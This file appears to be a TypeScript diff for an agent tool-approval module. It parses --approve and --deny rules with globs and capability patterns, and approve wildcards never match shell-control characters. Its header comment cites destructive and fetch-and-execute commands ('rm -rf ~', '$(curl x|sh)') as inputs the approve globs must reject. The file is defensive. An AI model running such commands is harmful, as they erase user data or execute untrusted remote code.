@@ -1,0 +1,167 @@
+// Command-line approval rules: `--approve RULE` and `--deny RULE`, each repeatable.
+//
+//   RULE := TOOL                   the tool named exactly TOOL, any action     --approve terminal
+//         | TOOL:GLOB              that tool when GLOB matches the whole        --approve 'terminal:ls *'
+//                                  action summary (for terminal: the command line)
+//         | capability:PATTERN     any tool whose required capability PATTERN   --approve capability:mcp.call:github
+//                                  covers (grant syntax, trailing wildcard ok)  --deny capability:fs.*
+//   TOOL  := [A-Za-z0-9_.-]+ ("capability" followed by ':' always means a capability rule)
+//   GLOB  := '*' any run of characters, '?' one character, '\x' the character x; all else literal.
+//
+// Asymmetry on purpose, because a rule that matches too much must fail safe:
+//   - in --approve, '*' and '?' never match a shell-control or control character
+//     (; & | < > ` $ ( ) { } \ newline, other C0/C1 controls, U+2028/2029), so
+//     'terminal:ls *' approves 'ls -la src' but not 'ls; rm -rf ~' or 'ls $(curl x|sh)'; write
+//     such characters literally in the glob to approve them. In --deny they match anything.
+//   - a capability PATTERN in --approve never approves a secret capability by wildcard (exact
+//     grant rule); in --deny a wildcard pattern covers secrets too.
+// Precedence: a matching --deny wins over any --approve, and it applies whatever the policy
+// ('auto' included, via the broker's veto step). --approve only answers 'prompt': it can never
+// override a 'deny' policy. Rule decisions are not cached (they are re-evaluated on every call).
+import { type ApprovalDecision, approvalDecision } from './approval-decision.js';
+import { type ApprovalRequest, type Approver, NonInteractiveApprover } from './approval-broker.js';
+import { type Capability, capabilityCovers, grantAllows, parseCapability } from './capability.js';
+import { ApprovalRuleError, CapabilitySyntaxError } from './errors.js';
+
+export type RuleVerdict = 'approve' | 'deny';
+export type RuleSubject = Pick<ApprovalRequest, 'toolName' | 'capability' | 'actionSummary'>;
+
+export interface ApprovalRule {
+  readonly verdict: RuleVerdict;
+  /** The rule as given on the command line. */
+  readonly text: string;
+  matches(subject: RuleSubject): boolean;
+}
+
+const TOOL_NAME = /^[A-Za-z0-9_.-]+$/;
+const MAX_RULE = 1000;
+// Characters an --approve wildcard never stands for (see the header).
+const UNSAFE = ';&|<>`$(){}\\\\\\x00-\\x1f\\x7f-\\x9f\\u2028\\u2029';
+
+function flagOf(verdict: RuleVerdict): string {
+  return verdict === 'approve' ? '--approve' : '--deny';
+}
+
+function globToRegExp(glob: string, verdict: RuleVerdict, fail: (reason: string, fix: string) => never): RegExp {
+  const any = verdict === 'approve' ? `[^${UNSAFE}]` : '[\\s\\S]';
+  let source = '';
+  for (let i = 0; i < glob.length; i++) {
+    const c = glob[i] as string;
+    if (c === '\\') {
+      i++;
+      if (i >= glob.length) fail('the glob ends in a lone backslash', "escape it as '\\\\' or remove it");
+      source += escapeRegExp(glob[i] as string);
+    } else if (c === '*') source += `${any}*`;
+    else if (c === '?') source += any;
+    else source += escapeRegExp(c);
+  }
+  return new RegExp(`^${source}$`, 'u');
+}
+
+// Only syntax characters may be escaped under the 'u' flag ('\-' would be a SyntaxError).
+function escapeRegExp(c: string): string {
+  return /[\\^$.*+?()[\]{}|/]/.test(c) ? `\\${c}` : c;
+}
+
+export function parseApprovalRule(text: string, verdict: RuleVerdict): ApprovalRule {
+  const flag = flagOf(verdict);
+  const fail = (reason: string, fix: string): never => {
+    throw new ApprovalRuleError(flag, String(text), reason, fix);
+  };
+  if (typeof text !== 'string' || text.trim() === '') fail('it is empty', `name a tool (${flag} terminal), a tool and a glob (${flag} 'terminal:ls *') or a capability (${flag} capability:terminal.exec)`);
+  if (text.length > MAX_RULE) fail(`it is longer than ${MAX_RULE} characters`, 'use a shorter glob');
+  const colon = text.indexOf(':');
+  const head = colon < 0 ? text : text.slice(0, colon);
+  const rest = colon < 0 ? undefined : text.slice(colon + 1);
+
+  if (head === 'capability' && rest !== undefined) {
+    let pattern: Capability;
+    try {
+      pattern = parseCapability(rest, 'grant');
+    } catch (err) {
+      const why = err instanceof CapabilitySyntaxError ? `${err.reason} (fix: ${err.fix})` : String(err);
+      return fail(`the capability pattern is invalid: ${why}`, `write a capability in grant syntax, e.g. ${flag} capability:mcp.call:github`);
+    }
+    const matches = (s: RuleSubject): boolean => {
+      let required: Capability;
+      try {
+        required = parseCapability(s.capability, 'requirement');
+      } catch {
+        return verdict === 'deny'; // an unparsable capability: a deny rule matches, an approve rule does not
+      }
+      return verdict === 'approve' ? grantAllows(pattern, required) : capabilityCovers(pattern, required);
+    };
+    return Object.freeze({ verdict, text, matches });
+  }
+
+  if (!TOOL_NAME.test(head)) {
+    fail(`tool name ${JSON.stringify(head)} is not [A-Za-z0-9_.-]+`, `use the tool's name as the catalog shows it (supervisor catalog <core>), e.g. ${flag} terminal`);
+  }
+  if (rest === undefined) return Object.freeze({ verdict, text, matches: (s: RuleSubject) => s.toolName === head });
+  if (rest === '') fail("the glob after ':' is empty", `drop the ':' to match every action of ${head}, or write a glob, e.g. '${head}:ls *'`);
+  const re = globToRegExp(rest, verdict, fail);
+  return Object.freeze({
+    verdict,
+    text,
+    matches: (s: RuleSubject) => s.toolName === head && typeof s.actionSummary === 'string' && re.test(s.actionSummary),
+  });
+}
+
+/** The parsed --approve and --deny rules of one command line. */
+export class ApprovalRules {
+  readonly approve: readonly ApprovalRule[];
+  readonly deny: readonly ApprovalRule[];
+
+  private constructor(approve: ApprovalRule[], deny: ApprovalRule[]) {
+    this.approve = Object.freeze(approve);
+    this.deny = Object.freeze(deny);
+    Object.freeze(this);
+  }
+
+  static parse(lists: { approve?: readonly string[]; deny?: readonly string[] } = {}): ApprovalRules {
+    return new ApprovalRules(
+      (lists.approve ?? []).map((r) => parseApprovalRule(r, 'approve')),
+      (lists.deny ?? []).map((r) => parseApprovalRule(r, 'deny')),
+    );
+  }
+
+  get isEmpty(): boolean {
+    return this.approve.length === 0 && this.deny.length === 0;
+  }
+
+  /** The first matching --deny rule. */
+  denial(subject: RuleSubject): ApprovalRule | undefined {
+    return this.deny.find((r) => r.matches(subject));
+  }
+
+  /** The first matching --approve rule (callers check denial first). */
+  approval(subject: RuleSubject): ApprovalRule | undefined {
+    return this.approve.find((r) => r.matches(subject));
+  }
+}
+
+/** Answers from the rules; asks `fallback` (default: the non-interactive denial) when none match. */
+export class RuleApprover implements Approver {
+  constructor(
+    private readonly rules: ApprovalRules,
+    private readonly fallback: Approver = new NonInteractiveApprover(),
+  ) {}
+
+  veto(request: ApprovalRequest): ApprovalDecision | undefined {
+    const rule = this.rules.denial(request);
+    if (rule !== undefined) return approvalDecision(false, 'rule', `denied by --deny ${quote(rule.text)}`);
+    return this.fallback.veto?.(request);
+  }
+
+  async decide(request: ApprovalRequest, signal?: AbortSignal): Promise<ApprovalDecision> {
+    const vetoed = this.veto(request);
+    if (vetoed !== undefined) return vetoed;
+    const rule = this.rules.approval(request);
+    if (rule !== undefined) return approvalDecision(true, 'rule', `approved by --approve ${quote(rule.text)}`);
+    return this.fallback.decide(request, signal);
+  }
+}
+
+function quote(s: string): string {
+  return /^[A-Za-z0-9_.:-]+$/.test(s) ? s : `'${s.replace(/'/g, "'\\''")}'`;
+}
